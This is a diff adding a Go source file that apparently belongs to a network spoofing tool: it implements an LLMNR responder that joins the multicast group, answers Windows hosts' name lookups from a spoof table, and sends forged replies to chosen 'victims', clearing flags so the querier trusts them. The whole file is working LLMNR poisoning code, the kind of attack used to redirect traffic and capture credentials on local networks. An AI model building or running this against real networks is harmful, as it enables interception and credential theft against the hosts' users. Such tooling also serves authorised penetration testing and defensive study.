@@ -0,0 +1,69 @@
+package main
+
+import (
+	"context"
+	"net"
+
+	"github.com/google/gopacket/layers"
+)
+
+const (
+	// llmnrPort is the port LLMNR is spoken on.
+	llmnrPort = 5355
+	// llmnrTTL is how long LLMNR answers may be cached
+	// for, as RFC 4795 recommends (section 2.8).
+	llmnrTTL = 30
+)
+
+// llmnrGroup is the IPv4 multicast group of LLMNR.
+var llmnrGroup = &net.UDPAddr{IP: net.IPv4(224, 0, 0, 252), Port: llmnrPort}
+
+// LLMNRResponse returns the response to the Link-Local Multicast Name
+// Resolution query which answers its questions found in table (see
+// SpoofTable.SpoofedResponse), and whether there are any. LLMNR shares
+// the DNS wire format, so query is decoded as DNS; the single-label
+// names Windows hosts look up match entries for bare hostnames. Denied
+// names are left unanswered, since a responder which does not own a
+// name must stay quiet rather than deny it (RFC 4795, section 2.1.1).
+//
+// The response echoes the query's ID and questions, and clears the
+// bits which, in LLMNR, mean a conflict (C, where DNS has AA) or a
+// tentative answer (T, where DNS has RD), so the querier trusts it.
+func LLMNRResponse(query *layers.DNS, table *SpoofTable) (*layers.DNS, bool) {
+	response, ok := table.SpoofedResponse(query, llmnrTTL)
+	if !ok || response.ResponseCode != layers.DNSResponseCodeNoErr {
+		return nil, false
+	}
+	response.AA, response.RD, response.RA = false, false, false
+	return response, true
+}
+
+// RunLLMNRResponder joins the LLMNR multicast group on iface (or the
+// system's default interface if iface is nil) and answers queries there
+// from table under config as by ServeLLMNR, until ctx is done.
+func RunLLMNRResponder(ctx context.Context, iface *net.Interface, table *SpoofTable, config *SpoofConfig) error {
+	conn, err := net.ListenMulticastUDP("udp4", iface, llmnrGroup)
+	if err != nil {
+		return err
+	}
+	return ServeLLMNR(ctx, conn, table, config)
+}
+
+// ServeLLMNR reads LLMNR queries from conn and unicasts the response
+// built by LLMNRResponse back to each victim of config, which may be
+// nil (see SpoofConfig.Victims), with questions in table. Windows hosts
+// fall back to LLMNR when DNS fails, so this catches names the DNS
+// server never sees. Everything else is left for the real hosts to
+// answer.
+//
+// ServeLLMNR closes conn and returns nil once ctx is done;
+// any other read error is returned.
+func ServeLLMNR(ctx context.Context, conn net.PacketConn, table *SpoofTable, config *SpoofConfig) error {
+	return serveLinkLocal(ctx, conn, config, func(query *layers.DNS, from net.Addr) (*layers.DNS, net.Addr) {
+		response, ok := LLMNRResponse(query, table)
+		if !ok {
+			return nil, nil
+		}
+		return response, from
+	})
+}